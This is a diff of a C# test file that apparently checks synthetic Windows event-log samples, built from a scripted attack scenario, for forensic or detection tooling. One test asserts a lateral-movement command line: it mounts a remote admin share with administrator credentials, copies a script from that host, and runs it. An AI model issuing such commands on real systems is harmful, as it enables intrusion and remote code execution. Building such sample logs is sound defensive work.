@@ -32,14 +32,17 @@ public sealed class SampleTests
         }
 
         Assert.True(File.Exists(path), $"{path} is missing: run once with {WriteSwitch}=1.");
-        Assert.True(told.SequenceEqual(File.ReadAllBytes(path)), $"{file} is not what the story gives: run once with {WriteSwitch}=1.");
+        Assert.True(
+            told.SequenceEqual(File.ReadAllBytes(path)),
+            $"{file} is not what the story gives: run once with {WriteSwitch}=1.");
     }
 
     [Fact]
     public void There_is_no_sample_without_a_story() =>
         Assert.Equal(
             TopinambourStory.Tell().Select(channel => channel.FileName).OrderBy(name => name, StringComparer.Ordinal),
-            Directory.GetFiles(SampleFolder(), "*.evtx").Select(Path.GetFileName).OrderBy(name => name, StringComparer.Ordinal));
+            Directory.GetFiles(SampleFolder(), "*.evtx")
+                .Select(Path.GetFileName).OrderBy(name => name, StringComparer.Ordinal));
 
     [Theory]
     [MemberData(nameof(Files))]
@@ -47,7 +50,7 @@ public sealed class SampleTests
     {
         byte[] told = Told(file);
         int expected = new RawLog(told).Chunks.Sum(chunk => chunk.Records.Count);
-        foreach (Func<byte[], XElement[]> reader in (Func<byte[], XElement[]>[])[IndependentReaders.EvtxExport, IndependentReaders.PythonEvtx])
+        foreach (Func<byte[], XElement[]> reader in IndependentReaders.Both)
         {
             XElement[] read = reader(told);
             Assert.Equal(expected, read.Length);
@@ -62,11 +65,12 @@ public sealed class SampleTests
         [
             .. IndependentReaders.EvtxExport(Told("Security.evtx"))
                 .Where(item => EventXml.System(item, "EventID") == "4688")
-                .Select(item => EventXml.Data(item).Single(data => data.Attribute("Name")!.Value == "CommandLine").Value),
+                .Select(item => EventXml.Data(item, "CommandLine")),
         ];
         Assert.Contains(
             @"cmd.exe /c net use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator"
-            + @" & copy /y \\197.168.0.247\c$\users\public\documents\i.js C:\Users\m.weber\Documents\j.js & C:\Users\m.weber\Documents\j.js",
+            + @" & copy /y \\197.168.0.247\c$\users\public\documents\i.js C:\Users\m.weber\Documents\j.js"
+            + @" & C:\Users\m.weber\Documents\j.js",
             lines);
         Assert.Contains(@"net  use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator ", lines);
     }
@@ -91,7 +95,8 @@ public sealed class SampleTests
         }
     }
 
-    private static byte[] Told(string file) => TopinambourStory.Tell().Single(channel => channel.FileName == file).ToLog();
+    private static byte[] Told(string file) =>
+        TopinambourStory.Tell().Single(channel => channel.FileName == file).ToLog();
 
     private static string SampleFolder()
     {
